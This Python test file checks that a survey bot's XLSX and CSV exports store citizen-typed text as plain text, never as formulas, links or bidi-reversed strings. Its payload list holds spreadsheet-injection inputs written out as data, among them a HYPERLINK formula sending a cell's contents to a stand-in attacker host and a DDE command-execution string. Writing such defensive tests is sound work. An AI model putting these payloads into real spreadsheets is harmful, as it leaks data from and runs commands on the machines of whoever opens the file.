"""Text a citizen typed reaches Excel as text: never a formula, never a link, in XLSX or CSV."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from bot.cells import csv_cell, from_csv_cell
from bot.csvfile import read_csv
from skm.records import CSV_COLUMNS
from tests.bot.officer_helpers import JAKARTA, q4, response, seed
from tests.support.harness import ADMIN_ID, BotHarness

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&B2,"Lihat")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "http://evil.example/login",
]
SUGGESTION = CSV_COLUMNS.index("suggestion")


async def seed_payloads(bot: BotHarness) -> None:
    rows = [response("433433433", when=q4(3 + i), suggestion=p) for i, p in enumerate(PAYLOADS)]
    await seed(bot, rows)


async def test_the_workbook_holds_every_payload_as_plain_text(bot: BotHarness):
    await seed_payloads(bot)
    await bot.send(ADMIN_ID, "/ekspor 2026-Q4")
    shown = bot.last(ADMIN_ID)
    assert shown.file is not None and shown.filename == "skm-2026-Q4.xlsx", shown.text
    sheet = load_workbook(io.BytesIO(shown.file))["Responden"]
    cells = [row[SUGGESTION] for row in sheet.iter_rows(min_row=2)]
    # The file carries a CR as _x000D_, which Excel reads back as the CR; openpyxl does not.
    assert [str(c.value).replace("_x000D_", "\r") for c in cells] == PAYLOADS
    for cell in cells:
        assert cell.data_type == "s", (cell.value, cell.data_type)  # "f" would be a formula
        assert cell.hyperlink is None
    every = [c for row in sheet.iter_rows() for c in row]
    assert not any(c.data_type == "f" or c.hyperlink for c in every)
    assert sheet.cell(2, 2).data_type == "s" and sheet.cell(2, 4).data_type == "n"


async def test_the_csv_quotes_every_payload_and_imports_back_unchanged(bot: BotHarness):
    await seed_payloads(bot)
    await bot.send(ADMIN_ID, "/ekspor 2026-Q4 csv")
    shown = bot.last(ADMIN_ID)
    assert shown.file is not None and shown.filename == "skm-2026-Q4.csv", shown.text
    text = io.StringIO(shown.file.decode("utf-8-sig"), newline="")
    rows = list(csv.reader(text, delimiter=";"))
    assert [r[SUGGESTION] for r in rows[1:]] == ["'" + p for p in PAYLOADS[:-1]] + [PAYLOADS[-1]]
    assert rows[1][1] == "SKCK" and rows[1][3] == "4"  # codes and numbers as they were
    back = read_csv(shown.file, JAKARTA)
    assert back.bad == []
    # The import takes off the quote the export put on (and parse_row trims the blanks).
    assert [r.suggestion for r, _ in back.rows] == [p.strip() for p in PAYLOADS]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+62 812", "'+62 812"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Antrean = lama", "Antrean = lama"),
        ("'quoted'", "'quoted'"),
        ("", ""),
        (None, ""),
        (3, "3"),
    ],
)
def test_csv_cell_quotes_only_what_would_start_a_formula(value: object, cell: str):
    assert csv_cell(value) == cell
    if isinstance(value, str):
        assert from_csv_cell(cell) == value


BIDI = "Pelayanan \u202egnaruk\u202c baik \u2066isolasi\u2069"


@pytest.mark.parametrize(("value", "cell"), [(BIDI, "Pelayanan gnaruk baik isolasi"),
                                             ("\u202e=1+1", "'=1+1")])  # fmt: skip
def test_csv_cell_drops_bidi_controls_before_it_looks_for_a_formula(value: str, cell: str):
    assert csv_cell(value) == cell


async def test_bidi_controls_reach_neither_the_workbook_nor_the_csv(bot: BotHarness):
    """An override makes a cell, and what Excel shows beside it, read backwards."""
    await seed(bot, [response("433433433", when=q4(3), suggestion=BIDI)])
    await bot.send(ADMIN_ID, "/ekspor 2026-Q4")
    shown = bot.last(ADMIN_ID)
    assert shown.file is not None
    sheet = load_workbook(io.BytesIO(shown.file))["Responden"]
    assert sheet.cell(2, SUGGESTION + 1).value == "Pelayanan gnaruk baik isolasi"
    await bot.send(ADMIN_ID, "/ekspor 2026-Q4 csv")
    shown = bot.last(ADMIN_ID)
    assert shown.file is not None
    text = shown.file.decode("utf-8-sig")
    assert "Pelayanan gnaruk baik isolasi" in text
    assert not any(c in text for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
